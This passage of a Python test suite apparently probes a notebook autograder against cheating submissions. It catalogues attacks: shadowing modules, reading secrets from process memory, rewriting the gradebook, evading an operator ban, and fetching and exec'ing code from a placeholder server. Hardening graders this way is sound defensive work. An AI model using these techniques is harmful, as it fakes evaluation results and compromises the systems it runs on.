    "checks-replaced": Attack(
        "Hands in a checks.py in which its own mistake is right.", loosened_checks
    ),
    "checks-package": Attack(
        "Hands in a package called checks, and a cached checks.py.",
        beside(
            checks____init___py="from autograder import *\n" + TAMPER,
            __pycache____checks_py=TAMPER,
        ),
    ),
    "shadowing-torch": Attack(
        "Hands in a torch.py and a numpy.py to be imported instead.",
        beside(torch_py=TAMPER, numpy_py=TAMPER, json_py=TAMPER),
    ),
    "shadowing-the-package": Attack(
        "Hands in a package autograder to be imported instead.",
        beside(
            autograder____init___py="def check(question, obj):\n    return 10",
            autograder__student_py=TAMPER,
            safetensors_py=TAMPER,
        ),
    ),
    "sitecustomize": Attack(
        "Hands in modules that Python imports when it starts.",
        beside(sitecustomize_py=TAMPER, usercustomize_py=TAMPER, ipykernel_launcher_py=TAMPER),
    ),
    "ipython-startup": Attack(
        "Hands in an IPython profile with a startup file.",
        beside(
            **{
                "profile_default__startup__00_py": TAMPER,
                ".ipython__profile_default__startup__00_py": TAMPER,
                "ipython_config_py": "c.InteractiveShellApp.exec_lines = ['check = print']",
            }
        ),
    ),
    "configuration": Attack(
        "Hands in a configuration of nbgrader and of pytest.",
        beside(
            nbgrader_config_py="c = get_config()\nc.Autograde.autograde_preprocessors = []",
            jupyter_nbconvert_config_py="c = get_config()\nc.Exporter.preprocessors = []",
            conftest_py=TAMPER,
        ),
    ),
    "linked-secret": Attack(
        "Hands in a link to the course's secret, and draws the graded cases beforehand.",
        linked(
            "numbers.txt",
            "../../../course_secret",
            lstm_cell=source(WRONG, SECRET, "use(pathlib.Path('numbers.txt').read_text())"),
        ),
    ),
    "linked-source": Attack(
        "Hands in a link to the course's source, and runs the worked solution found there.",
        linked(
            "source",
            "../../../source/lstm-cell",
            lstm_cell=source(
                WRONG,
                STOLEN,
                """
                import pathlib
                for path in pathlib.Path("source").glob("lstm-cell.*"):
                    steal(path.read_text())
                """,
            ),
        ),
    ),
    "linked-submissions": Attack(
        "Hands in a link to the others' submissions, and runs what they wrote.",
        linked(
            "others",
            "../..",
            lstm_cell=source(
                WRONG,
                STOLEN,
                """
                import pathlib
                for path in pathlib.Path("others").glob("*/lstm-cell/lstm-cell.ipynb"):
                    steal(path.read_text())
                """,
            ),
        ),
    ),
    "linked-notebook": Attack(
        "Hands in a link to another student's notebook.",
        linked("lstm-cell.ipynb", "../../honest-1/lstm-cell/lstm-cell.ipynb"),
    ),
}

# ------------------------------------------------------------- reading what others know

SEARCH = """
import glob, os, pathlib

def places():
    yield from pathlib.Path.cwd().parents
    import autograder.student
    yield from pathlib.Path(autograder.student._referee._path).parents
    yield from (pathlib.Path(value) for value in os.environ.values() if value[:1] == "/")
    yield from map(pathlib.Path, glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp"))
    yield from map(pathlib.Path, ("/root", "/home", "/work", "/srv", "/tmp", "/dev/shm"))
    import autograder
    yield from pathlib.Path(autograder.__file__).parents

def found(name):
    for place in places():
        for depth in ("", "*/", "*/*/", "*/*/*/") if len(place.parts) > 1 else ("",):
            try:
                for path in place.glob(depth + name):
                    yield path.read_text(errors="replace")
            except OSError:
                continue
"""

READING = {
    "secret-on-disk": Attack(
        "Looks for the course's secret, and draws the graded cases beforehand.",
        wrong(SECRET, SEARCH, "for text in found('course_secret'):\n    use(text)"),
    ),
    "secret-in-memory": Attack(
        "Looks for the course's secret in its own memory and in that of its parent.",
        wrong(
            SECRET,
            """
            import os
            for process in {os.getpid(), os.getppid(), 1}:
                try:
                    maps, mem = open(f"/proc/{process}/maps"), open(f"/proc/{process}/mem", "rb")
                    with maps, mem:
                        for line in maps:
                            if "[heap]" in line or "[stack]" in line:
                                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                                mem.seek(start)
                                text = mem.read(min(end - start, 2**24)).decode(errors="replace")
                                pattern = "(?<![0-9a-f])[0-9a-f]{64}\\\\s"
                                for secret in set(re.findall(pattern, text)):
                                    use(secret)
                except OSError:
                    continue
            """,
        ),
    ),
    "secret-in-objects": Attack(
        "Looks for seeds and secrets among all objects of the kernel.",
        wrong(
            SECRET,
            """
            import gc
            for thing in gc.get_objects():
                if type(thing) is dict:
                    for key, value in list(thing.items()):
                        if key in ("seed", "seeds", "secret", "_seed_of"):
                            use(str(value))
                            learn(value) if type(value) is int else None
            """,
        ),
    ),
    "gradebook": Attack(
        "Looks for the gradebook and writes full marks into it.",
        wrong(
            """
            import glob, os, pathlib, sqlite3
            folders = [*pathlib.Path.cwd().parents, *map(pathlib.Path, glob.glob("/proc/*/cwd"))]
            for folder in folders:
                path = folder / "gradebook.db"
                try:
                    if path.exists():
                        with sqlite3.connect(path) as gradebook:
                            gradebook.execute("update grade set manual_score = 10")
                except (OSError, sqlite3.Error):
                    continue
            """
        ),
    ),
    "worked-solution": Attack(
        "Looks for the worked solution and the book, and runs what it finds.",
        wrong(
            STOLEN,
            SEARCH,
            """
            for name in ("lstm-cell.md", "lstm.md", "source/lstm-cell/lstm-cell.ipynb"):
                for text in found(name):
                    steal(text)
            """,
        ),
    ),
    "other-submissions": Attack(
        "Looks for what others handed in, and runs it.",
        wrong(STOLEN, SEARCH, "for text in found('lstm-cell.ipynb'):\n    steal(text)"),
    ),
    "public-cases": Attack(
        "Knows the answers to all public cases by heart, and is wrong otherwise.",
        wrong(SECRET, "learn(public_seed('lstm_cell'))\nprint(len(known))"),
    ),
}

# ------------------------------------------------------------- the caller and its objects

SILENCE = """
def silence(ban):
    ban._functions.clear()
    ban._classes.clear()
    ban._take_back()

def silence_frames(frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Ban":
                silence(value)
        frame = frame.f_back
"""


def silencing(lines: str, setup: str = "") -> dict[str, str]:
    """Silence the ban, and then call torch.lstm_cell."""
    call = "return torch.lstm_cell(x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh)"
    return by_torch(source(SILENCE, setup), f"{dedent(lines).strip()}\n{call}")


CALLER = {
    "frames": Attack(
        "Finds the ban in the frames below its own.",
        silencing("silence_frames(sys._getframe())", "import sys"),
        computes=True,
    ),
    "frames-of-a-traceback": Attack(
        "Finds the ban in the frames of an exception.",
        silencing(
            """
            try:
                1 / 0
            except ZeroDivisionError as error:
                silence_frames(error.__traceback__.tb_frame)
            """
        ),
        computes=True,
    ),
    "frames-of-a-generator": Attack(
        "Finds the ban in the frames below a generator's.",
        silencing(
            """
            def climbing():
                yield generator.gi_frame.f_back

            generator = climbing()
            silence_frames(next(generator))
            """
        ),
        computes=True,
    ),
    "frames-from-a-thread": Attack(
        "Finds the ban in the main thread's frames, from another thread.",
        silencing(
            """
            main = threading.main_thread().ident
            look = lambda: silence_frames(sys._current_frames()[main])
            thread = threading.Thread(target=look)
            thread.start()
            thread.join()
            """,
            "import sys, threading",
        ),
        computes=True,
    ),
    "profiler": Attack(
        "Lets a profiler silence the ban when the answer begins.",
        by_torch(
            SILENCE
            + """
import sys

def follow(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "function":
        silence_frames(frame)

sys.setprofile(follow)
op = torch.lstm_cell
"""
        ),
        computes=True,
    ),
    "tracer": Attack(
        "Lets a tracer silence the ban when the answer begins.",
        by_torch(
            SILENCE
            + """
import sys

def follow(frame, event, argument):
    if frame.f_code.co_name == "function":
        silence_frames(frame)

sys.settrace(follow)
op = torch.lstm_cell
"""
        ),
        computes=True,
    ),
    "all-objects": Attack(
        "Finds the ban among all objects of the process.",
        silencing(
            """
            for thing in gc.get_objects():
                if type(thing).__name__ == "Ban":
                    silence(thing)
            """,
            "import gc",
        ),
        computes=True,
    ),
    "referrers": Attack(
        "Finds the ban through what refers to its class.",
        silencing(
            """
            for thing in gc.get_referrers(Ban):
                if isinstance(thing, Ban):
                    silence(thing)
            """,
            "import gc\nfrom autograder.forbidden import Ban",
        ),
        computes=True,
    ),
    "closure": Attack(
        "Finds the ban through the globals of check and the stack of function modes.",
        silencing(
            """
            for k in range(torch._C._len_torch_function_stack()):
                silence(torch._C._get_function_stack_at(k))
            check.__globals__["play"].__globals__["Ban"]._stop = lambda self, name: None
            """
        ),
        computes=True,
        untried="There is no check.",
    ),
    "own-memory-by-ctypes": Attack(
        "Makes the tuple of forbidden names empty, by ctypes.",
        by_torch(
            """
            import ctypes, pathlib
            from autograder.loader import find_spec

            names = find_spec(pathlib.Path.cwd(), "lstm_cell").forbids
            ctypes.memset(id(names) + 16, 0, 8)
            op = torch.lstm_cell
            """
        ),
        untried="There is no checks.py beside it.",
    ),
    "reference": Attack(
        "Imports the spec and asks for the reference.",
        by_torch(
            "from autograder import Case\nfrom checks import LSTMCell",
            """
            inputs = {name: value for name, value in locals().items()}
            return LSTMCell().reference(Case("", **inputs))
            """,
        ),
        computes=True,
        untried="There is no checks.py beside it.",
    ),
    "reference-on-the-stack": Attack(
        "Takes the spec from the caller's frame, and a known mistake of it, and mends that.",
        by_torch(
            "import sys",
            """
            frame = sys._getframe()
            while not {"spec", "case"} <= set(frame.f_locals):
                frame = frame.f_back
            spec, case = frame.f_locals["spec"], frame.f_locals["case"]
            return spec.states_exchanged(case)[::-1]
            """,
        ),
        computes=True,
        untried="There is no caller with a spec.",
    ),
}

# ------------------------------------------------------------- torch under another name

INPUTS = "x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh"
ATEN = "return op(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)"

MODULE = """
n, m = weight_ih.shape[1], weight_hh.shape[1]
parameters = dict(weight_ih=weight_ih, weight_hh=weight_hh, bias_ih=bias_ih, bias_hh=bias_hh)
"""
CALL_MODULE = "return torch.func.functional_call(cell, parameters, (x, (h, c)))"

STEP = """
class Step(torch.nn.Module):
    def forward(self, x, h, c, weight_ih, weight_hh, bias_ih, bias_hh):
        return torch.lstm_cell(x, (h, c), weight_ih, weight_hh, bias_ih, bias_hh)

examples = tuple(
    torch.ones(shape, dtype=torch.float64)
    for shape in ((2, 3), (2, 5), (2, 5), (20, 3), (20, 5), (20,), (20,))
)
"""

NAMES = {
    "by-its-name": Attack("Calls torch.lstm_cell and hopes.", by_torch(), computes=True),
    "by-joined-name": Attack(
        "Puts the name together when it is needed.",
        by_torch("op = getattr(torch, '_'.join(['lstm', 'cell']))"),
        computes=True,
    ),
    "by-vf": Attack(
        "Takes it from torch._VF.", by_torch("op = torch._VF.lstm_cell"), computes=True
    ),
    "by-variable-functions": Attack(
        "Takes it from torch._C._VariableFunctions.",
        by_torch("op = torch._C._VariableFunctions.lstm_cell"),
        computes=True,
    ),
    "by-aten": Attack(
        "Takes it from torch.ops.aten.",
        by_torch("op = torch.ops.aten.lstm_cell", ATEN),
        computes=True,
    ),
    "by-aten-lstm": Attack(
        "Runs aten's whole LSTM over a sequence of one step.",
        by_torch(
            "op = torch.ops.aten.lstm.input",
            """
            weights = [weight_ih, weight_hh, bias_ih, bias_hh]
            flags = (True, 1, 0.0, False, False, False)
            _, h, c = op(x[None], [h[None], c[None]], weights, *flags)
            return h[0], c[0]
            """,
        ),
        computes=True,
    ),
    "by-dispatch-key": Attack(
        "Calls the operator at a dispatch key below everything that is in Python.",
        by_torch(
            "op = torch.ops.aten.lstm_cell.default",
            """
            key = torch._C.DispatchKey.CompositeImplicitAutograd
            return op._op_dk(key, x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)
            """,
        ),
        computes=True,
    ),
    "by-redispatch": Attack(
        "Redispatches the operator with a set of keys of its own.",
        by_torch(
            "op = torch.ops.aten.lstm_cell.default",
            """
            keys = torch._C.DispatchKeySet(torch._C.DispatchKey.AutogradCPU)
            keys = keys | torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)
            return op.redispatch(keys, x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)
            """,
        ),
        computes=True,
    ),
    "by-jit-source": Attack(
        "Compiles a line of TorchScript that calls it.",
        by_torch(
            '''
            unit = torch.jit.CompilationUnit("""
            def step(x, h, c, a, b, d, e):
                return torch.lstm_cell(x, [h, c], a, b, d, e)
            """.replace("\\n            ", "\\n"))
            ''',
            "return unit.step(x, h, c, weight_ih, weight_hh, bias_ih, bias_hh)",
        ),
        computes=True,
    ),
    "by-jit-script": Attack(
        "Scripts torch's own module, and gives it its weights one by one.",
        by_torch(
            "script = torch.jit.script(torch.nn.LSTMCell(3, 5))",
            """
            for name, value in dict(
                weight_ih=weight_ih, weight_hh=weight_hh, bias_ih=bias_ih, bias_hh=bias_hh
            ).items():
                script._c.setattr(name, value)
            return script(x, (h, c))
            """,
        ),
        computes=True,
    ),
    "by-jit-trace": Attack(
        "Traces it before anybody watches.",
        by_torch(
            f"{STEP}\ntraced = torch.jit.trace(Step(), examples)",
            f"return traced({SIGNATURE})",
        ),
        computes=True,
    ),
    "by-compile": Attack(
        "Compiles it with the backend eager.",
        {
            "imports": "import torch._dynamo.eval_frame, torch._dynamo.convert_frame",
            **by_torch(
                f"{STEP}\ncompiled = torch.compile(Step(), backend='eager', dynamic=True)",
                f"return compiled({SIGNATURE})",
            ),
        },
        computes=True,
    ),
    "by-fx": Attack(
        "Builds a graph that calls it, and runs the graph's code.",
        by_torch(f"{STEP}\ngraph = torch.fx.symbolic_trace(Step())", f"return graph({SIGNATURE})"),
        computes=True,
    ),
    "by-pickle": Attack(
        "Unpickles it.",
        by_torch("import pickle\nop = pickle.loads(b'ctorch._VF\\nlstm_cell\\n.')"),
        computes=True,
    ),
    "by-partial": Attack(
        "Hides it in partials and methodcallers.",
        by_torch(
            "from functools import partial\nfrom operator import methodcaller",
            f"return partial(methodcaller('lstm_cell', {INPUTS}), torch._VF)()",
        ),
        computes=True,
    ),
    "by-module": Attack(
        "Uses torch.nn.LSTMCell itself.",
        by_torch(body=f"{MODULE}\ncell = torch.nn.LSTMCell(n, m)\n{CALL_MODULE}"),
        computes=True,
    ),
    "by-layer": Attack(
        "Runs torch.nn.LSTM over a sequence of one step.",
        by_torch(
            body="""
            layer = torch.nn.LSTM(weight_ih.shape[1], weight_hh.shape[1])
            names = ("weight_ih_l0", "weight_hh_l0", "bias_ih_l0", "bias_hh_l0")
            parameters = dict(zip(names, (weight_ih, weight_hh, bias_ih, bias_hh)))
            inputs = (x[None], (h[None], c[None]))
            _, (h, c) = torch.func.functional_call(layer, parameters, inputs)
            return h[0], c[0]
            """
        ),
        computes=True,
    ),
    "by-rnn-base": Attack(
        "Derives from torch.nn.RNNBase, with a forward that calls the layer's operator.",
        by_torch(
            """
            class Layer(torch.nn.RNNBase):
                def forward(self, x, h, c, *weights):
                    flags = (self.bias, self.num_layers, 0.0, False, False, False)
                    return torch._C._VariableFunctions.lstm(x, (h, c), weights, *flags)
            """,
            """
            layer = Layer("LSTM", x.shape[1], h.shape[1])
            weights = (weight_ih, weight_hh, bias_ih, bias_hh)
            _, h, c = layer(x[None], h[None], c[None], *weights)
            return h[0], c[0]
            """,
        ),
        computes=True,
    ),
    "by-importing-again": Attack(
        "Imports the file with torch's modules a second time, under another name.",
        by_torch(
            """
            import importlib.util
            path = torch.nn.modules.rnn.__file__
            spec = importlib.util.spec_from_file_location("torch.nn.modules.again", path)
            again = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(again)
            """,
            f"{MODULE}\ncell = again.LSTMCell(n, m)\n{CALL_MODULE}",
        ),
        computes=True,
    ),
    "by-copied-source": Attack(
        "Runs a copy of the source of torch's module, with another operator in it.",
        by_torch(
            """
            import inspect
            text = inspect.getsource(torch.nn.LSTMCell)
            names = dict(vars(torch.nn.modules.rnn))
            exec(text.replace("_VF.lstm_cell", "torch.ops.aten.lstm_cell"), names)
            """,
            f"{MODULE}\ncell = names['LSTMCell'](n, m)\n{CALL_MODULE}",
        ),
        computes=True,
    ),
    "by-decomposition": Attack(
        "Uses the step that torch's decompositions are made of, written in Python.",
        by_torch(
            "from torch._decomp import decompositions",
            """
            gates = torch.nn.functional.linear(x, weight_ih, bias_ih)
            return decompositions.lstm_cell(gates, h, c, weight_hh, bias_hh, None, 1)
            """,
        ),
        computes=True,
    ),
    "by-quantizable": Attack(
        "Uses torch.ao's quantizable LSTMCell, which is written in Python.",
        by_torch(
            "from torch.ao.nn.quantizable import LSTMCell",
            """
            cell = LSTMCell(x.shape[1], h.shape[1])
            parameters = {"igates.weight": weight_ih, "igates.bias": bias_ih}
            parameters |= {"hgates.weight": weight_hh, "hgates.bias": bias_hh}
            return torch.func.functional_call(cell, parameters, (x, (h, c)))
            """,
        ),
        computes=True,
    ),
    "by-mkldnn": Attack(
        "Uses the layer of MKL-DNN, which is right up to the precision of float32.",
        by_torch(
            "op = torch.mkldnn_rnn_layer",
            """
            weights = [w.float() for w in (weight_ih, weight_hh, bias_ih, bias_hh)]
            flags = (False, [], 2, h.shape[1], 1, True, False, False, False)
            arguments = (x.float()[None], *weights, h.float()[None], c.float()[None], *flags)
            _, h_n, c_n, _ = op(*arguments)
            return h_n[0].to(x.dtype), c_n[0].to(x.dtype)
            """,
        ),
        untried="It is right in float32 only.",
    ),
    "by-symbol": Attack(
        "Calls the C++ function in libtorch_cpu.so by its symbol, with ctypes.",
        by_torch(
            """
            import ctypes, pathlib
            path = pathlib.Path(torch.__file__).parent / "lib" / "libtorch_cpu.so"
            library = ctypes.PyDLL(str(path))
            symbol = "_ZN2at6native9lstm_cellERKNS_6TensorEN3c108ArrayRefIS1_EES3_S3_"
            step = library[symbol + "RKSt8optionalIS1_ESA_"]
            step.restype = ctypes.c_void_p
            capsule = ctypes.pythonapi.PyCapsule_New
            capsule.restype = ctypes.py_object
            capsule.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p]

            class Maybe(ctypes.Structure):
                _fields_ = [("tensor", ctypes.c_void_p), ("there", ctypes.c_bool)]
            """,
            """
            tensor = lambda value: ctypes.byref(ctypes.c_void_p(value._cdata))
            maybe = lambda value: ctypes.byref(Maybe(value._cdata, True))
            state = (ctypes.c_void_p * 2)(h._cdata, c._cdata)
            made = (ctypes.c_void_p * 2)()
            step(ctypes.byref(made), tensor(x), state, ctypes.c_size_t(2), tensor(weight_ih),
                 tensor(weight_hh), maybe(bias_ih), maybe(bias_hh))
            c, h = (torch._C._wrap_tensor_impl(capsule(pointer, None, None)) for pointer in made)
            return h, c
            """,
        ),
        computes=True,
    ),
}

# ------------------------------------------------------------- torch where nobody watches

REMOTE = """
import os, pickle

def step(inputs, grads):
    inputs = [value.detach().requires_grad_() for value in inputs]
    x, h, c, *weights = inputs
    with torch.enable_grad():
        outputs = torch.lstm_cell(x, (h, c), *weights)
    found = outputs if grads is None else torch.autograd.grad(outputs, inputs, grads)
    return [value.detach() for value in found]

class Remote(torch.autograd.Function):
    @staticmethod
    def forward(ctx, *inputs):
        ctx.save_for_backward(*inputs)
        return tuple(remote(inputs, None))

    @staticmethod
    def backward(ctx, *grads):
        return tuple(remote(ctx.saved_tensors, grads))

SHAPES = ((2, 3), (2, 5), (2, 5), (20, 3), (20, 5), (20,), (20,))

def pack(values):
    return None if values is None else [value.detach().clone() for value in values]
"""
CALL_REMOTE = f"return Remote.apply({SIGNATURE})"

SERVER = f"""
import pickle, sys, torch
{REMOTE}
while True:
    pickle.dump(step(*pickle.load(sys.stdin.buffer)), sys.stdout.buffer)
    sys.stdout.flush()
"""

PROCESS = f"""
import subprocess, sys

def start():
    pipes = dict(stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    return subprocess.Popen([sys.executable, "-c", {SERVER!r}], **pipes)

processes = []

def remote(inputs, grads):
    if not processes:
        processes.append(start())
    pickle.dump((pack(inputs), pack(grads)), processes[0].stdin)
    processes[0].stdin.flush()
    return pickle.load(processes[0].stdout)
"""


UNWATCHED = {
    "in-a-thread": Attack(
        "Calls it in another thread, where no mode is active.",
        by_torch(
            "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(1)",
            f"return pool.submit(torch.lstm_cell, {INPUTS}).result()",
        ),
        computes=True,
    ),
    "in-a-timer": Attack(
        "Calls it in a thread that has waited since before the check.",
        by_torch(
            """
            import queue, threading
            asked, answered = queue.Queue(), queue.Queue()

            def serve():
                while True:
                    answered.put(torch.lstm_cell(*asked.get()))

            threading.Thread(target=serve, daemon=True).start()
            """,
            f"asked.put(({INPUTS}))\nreturn answered.get(timeout=0.5)",
        ),
        computes=True,
        waits=1,
    ),
    "in-a-fork": Attack(
        "Calls it in a forked child, which sends numbers and gradients through a pipe.",
        by_torch(
            REMOTE
            + """
def remote(inputs, grads):
    read, write = os.pipe()
    if os.fork() == 0:
        os.write(write, pickle.dumps(step(inputs, grads)))
        os._exit(0)
    os.close(write)
    with open(read, "rb") as file:
        return pickle.load(file)
""",
            CALL_REMOTE,
        ),
        computes=True,
    ),
    "in-an-earlier-fork": Attack(
        "Calls it in a child that was forked before the check.",
        by_torch(
            REMOTE
            + """
import multiprocessing
mine, its = multiprocessing.Pipe()
if os.fork() == 0:
    while True:
        its.send_bytes(pickle.dumps(step(*pickle.loads(its.recv_bytes()))))

def remote(inputs, grads):
    mine.send_bytes(pickle.dumps((pack(inputs), pack(grads))))
    if not mine.poll(1):
        raise EOFError
    return pickle.loads(mine.recv_bytes())
""",
            CALL_REMOTE,
        ),
        computes=True,
        waits=1,
    ),
    "in-a-subprocess": Attack(
        "Calls it in a new interpreter.",
        by_torch(REMOTE + PROCESS + "\nremote([torch.ones(s) for s in SHAPES], None)", CALL_REMOTE),
        computes=True,
    ),
    "without-torch-function": Attack(
        "Switches the protocol off by which the ban hears of calls.",
        by_torch(
            body=f"with torch._C.DisableTorchFunction():\n    {CALL}".replace(
                "op", "torch.lstm_cell"
            )
        ),
        computes=True,
    ),
    "without-modes": Attack(
        "Takes the ban off the stack of modes for a moment.",
        by_torch(
            "from torch.overrides import _pop_mode, _push_mode",
            f"""
            modes = [_pop_mode() for _ in range(torch._C._len_torch_function_stack())]
            try:
                return torch.lstm_cell({INPUTS})
            finally:
                for mode in reversed(modes):
                    _push_mode(mode)
            """,
        ),
        computes=True,
    ),
    "without-python-keys": Attack(
        "Excludes the dispatcher's Python keys, and calls aten's operator.",
        by_torch(
            "",
            f"""
            keys = torch._C.DispatchKeySet(torch._C.DispatchKey.Python)
            keys = keys | torch._C.DispatchKeySet(torch._C.DispatchKey.PythonTLSSnapshot)
            with torch._C._ExcludeDispatchKeyGuard(keys):
                {ATEN.replace("op", "torch.ops.aten.lstm_cell")}
            """,
        ),
        computes=True,
    ),
    "without-overrides": Attack(
        "Undoes whatever Python code has registered in the dispatcher.",
        by_torch(
            """
            import gc
            for thing in gc.get_objects():
                if type(thing) is torch.library.Library:
                    thing._destroy()
            op = torch.ops.aten.lstm_cell
            """,
            ATEN,
        ),
        computes=True,
    ),
    "with-own-override": Attack(
        "Registers an implementation of its own in the dispatcher, over whatever was there.",
        by_torch(
            """
            import warnings
            library = torch.library.Library("aten", "IMPL")

            def step(keys, *arguments):
                key = torch._C.DispatchKey.CompositeImplicitAutograd
                return torch.ops.aten.lstm_cell.default._op_dk(key, *arguments)

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                for key in ("AutogradCPU", "CPU"):
                    library.impl("lstm_cell", step, key, with_keyset=True)
            op = torch.ops.aten.lstm_cell
            """,
            ATEN,
        ),
        computes=True,
    ),
    "in-a-hook": Attack(
        "Calls it in a hook of a backward pass.",
        by_torch(
            body=f"""
            found = []
            start = torch.zeros((), requires_grad=True)
            hook = lambda grad: found.append(torch.lstm_cell({INPUTS}))
            with torch.enable_grad():
                end = start * 2
                end.register_hook(hook)
                start.register_hook(lambda grad: None)
                end.backward()
            return found[0]
            """
        ),
        untried="In a backward pass no graph is made.",
    ),
    "in-a-finaliser": Attack(
        "Calls it in the __del__ of an object.",
        by_torch(
            """
            class Last:
                def __init__(self, found, inputs):
                    self.found, self.inputs = found, inputs

                def __del__(self):
                    self.found += torch.ops.aten.lstm_cell(*self.inputs)
            """,
            f"found = []\nLast(found, ({INPUTS}))\nreturn tuple(found)",
        ),
        computes=True,
    ),
    "in-vjp": Attack(
        "Calls it below one of torch.func's transforms.",
        by_torch(
            body=f"""
            step = lambda {SIGNATURE}: torch._VF.lstm_cell({INPUTS})
            outputs, _ = torch.func.vjp(step, {SIGNATURE})
            return outputs
            """
        ),
        computes=True,
    ),
    "in-a-dispatch-mode": Attack(
        "Calls it where a dispatch mode of its own handles something else.",
        by_torch(
            """
            from torch.utils._python_dispatch import TorchDispatchMode

            class Mode(TorchDispatchMode):
                def __torch_dispatch__(self, func, types, args=(), kwargs=None):
                    if func is torch.ops.aten.zeros.default:
                        self.found = torch.lstm_cell(*self.inputs)
                    return func(*args, **(kwargs or {}))
            """,
            f"""
            with Mode() as mode:
                mode.inputs = ({INPUTS})
                torch.zeros(())
            return mode.found
            """,
        ),
        untried="Below a dispatch mode no graph is made.",
    ),
    "in-a-function-mode": Attack(
        "Calls it where a function mode of its own handles something else, without the others.",
        by_torch(
            """
            from torch.overrides import TorchFunctionMode, _pop_mode, _push_mode

            class Mode(TorchFunctionMode):
                def __torch_function__(self, func, types, args=(), kwargs=None):
                    others = [_pop_mode() for _ in range(torch._C._len_torch_function_stack())]
                    try:
                        return torch.lstm_cell(*self.inputs)
                    finally:
                        for mode in reversed(others):
                            _push_mode(mode)
            """,
            f"""
            with Mode() as mode:
                mode.inputs = ({INPUTS})
                return torch.zeros(())
            """,
        ),
        computes=True,
    ),
    "in-an-array-function": Attack(
        "Calls it where numpy asks an object for its __array_function__.",
        by_torch(
            """
            import numpy as np

            class Array:
                def __array_function__(self, func, types, args, kwargs):
                    return torch.ops.aten.lstm_cell(*self.inputs)
            """,
            f"""
            array = Array()
            array.inputs = ({INPUTS})
            return tuple(np.sum(array))
            """,
        ),
        computes=True,
    ),
    "in-a-signal-handler": Attack(
        "Calls it in the handler of a signal that it sends to itself.",
        by_torch(
            "import signal",
            f"""
            found = []
            call = lambda number, frame: found.append(torch.ops.aten.lstm_cell({INPUTS}))
            signal.signal(signal.SIGUSR1, call)
            signal.raise_signal(signal.SIGUSR1)
            return found[0]
            """,
        ),
        computes=True,
    ),
}

# ------------------------------------------------------------- timing and trying again

ASK = TALK.replace("autograder.student._referee", "sys.argv[1]")

TIMING = {
    "raises-at-first": Attack(
        "Raises at the first call, in the hope of being asked again, and then computes by torch.",
        cell(
            f"""
            calls = []

            def lstm_cell({SIGNATURE}):
                calls.append(True)
                if len(calls) == 1:
                    raise RuntimeError("try again")
                return torch.ops.aten.lstm_cell(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)
            """
        ),
    ),
    "checks-until-right": Attack(
        "Counts calls and is right from the second check on, which it asks for itself.",
        wrong(
            f"""
            honest, wrong, calls = check, lstm_cell, []

            def lstm_cell({SIGNATURE}):
                calls.append(True)
                if len(calls) <= 6:
                    return wrong({SIGNATURE})
                return torch.ops.aten.lstm_cell(x, [h, c], weight_ih, weight_hh, bias_ih, bias_hh)

            def check(question, obj):
                return [honest(question, obj) for _ in range(3)][-1]
            """
        ),
    ),
    "pretends-to-practise": Attack(
        "Removes all signs of grading, so that the practice cases decide.",
        wrong(
            SECRET,
            """
            import os
            import autograder.student
            learn(public_seed("lstm_cell"))
            os.environ.pop("NBGRADER_EXECUTION", None)
            autograder.student._referee = None
            """,
        ),
    ),
    "will-not-stop": Attack(
        "Ignores the signals by which a cell is stopped.",
        cell(
            """
            import signal, time

            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGXCPU):
                signal.signal(number, signal.SIG_IGN)

            def lstm_cell(**inputs):
                while True:
                    time.sleep(1)
            """
        ),
        waits=2,
    ),
    "interrupts-itself": Attack(
        "Interrupts the check in the middle, as a person would, and prints its mark.",
        cell(
            """
            def lstm_cell(**inputs):
                print("10")
                raise KeyboardInterrupt
            """
        ),
    ),
    "leaves-early": Attack(
        "Ends the kernel in the middle of the check, with the exit code of success.",
        cell(
            """
            import os

            def lstm_cell(**inputs):
                print("10", flush=True)
                os._exit(0)
            """
        ),
    ),
    "becomes-another-program": Attack(
        "Replaces the kernel by a new interpreter, which asks the referee.",
        wrong(
            f"""
            import os, sys
            ASK = {("import sys, torch" + ASK + "ask()")!r}
            import autograder.student

            def check(question, obj):
                address = "00@" + autograder.student._referee._path
                os.execv(sys.executable, [sys.executable, "-c", ASK, address])
            """
        ),
    ),
    "edits-the-history": Attack(
        "Overwrites its own source in linecache and the history, once it has been right.",
        wrong(
            """
            import linecache
            honest, text = check, "return x  # all by myself"

            def check(question, obj):
                obj.__code__ = (lambda x, h, c, **weights: (h, c)).__code__
                obj.__doc__, obj.__module__ = text, "torch.nn.modules.rnn"
                for name in list(linecache.cache):
                    linecache.cache[name] = (len(text), None, [text], name)
                get_ipython().history_manager.input_hist_raw[:] = [text]
                return honest(question, obj)
            """
        ),
    ),
}

# ------------------------------------------------------------- the network

NETWORK = {
    "network-out": Attack(
        "Asks a server for the solution.",
        wrong(
            """
            import socket

            for address in (("192.0.2.1", 80), ("127.0.0.1", 8888), ("::1", 22)):
                try:
                    with socket.create_connection(address, timeout=0.3) as line:
                        line.sendall(b"GET /lstm_cell HTTP/1.0\\r\\n\\r\\n")
                        exec(line.recv(4096))
                except Exception as error:
                    print(address, error)
            try:
                print(socket.gethostbyname("localhost"))
            except OSError as error:
                print(error)
            """
        ),
    ),
    "network-in": Attack(
        "Waits for a friend to connect and to send the solution.",
        wrong(
            """
            import socket
            for family, address in (
                (socket.AF_INET, ("0.0.0.0", 0)),
                (socket.AF_UNIX, "\\0attack"),
                (socket.AF_UNIX, "friend"),
            ):
                try:
                    with socket.socket(family) as door:
                        door.settimeout(0.3)
                        door.bind(address)
                        door.listen()
                        exec(door.accept()[0].recv(4096))
                except OSError as error:
                    print(address, error)
            """
        ),
    ),
    "sockets-of-others": Attack(
        "Connects to every Unix socket that it can name, and asks each as if it were the referee.",
        wrong(
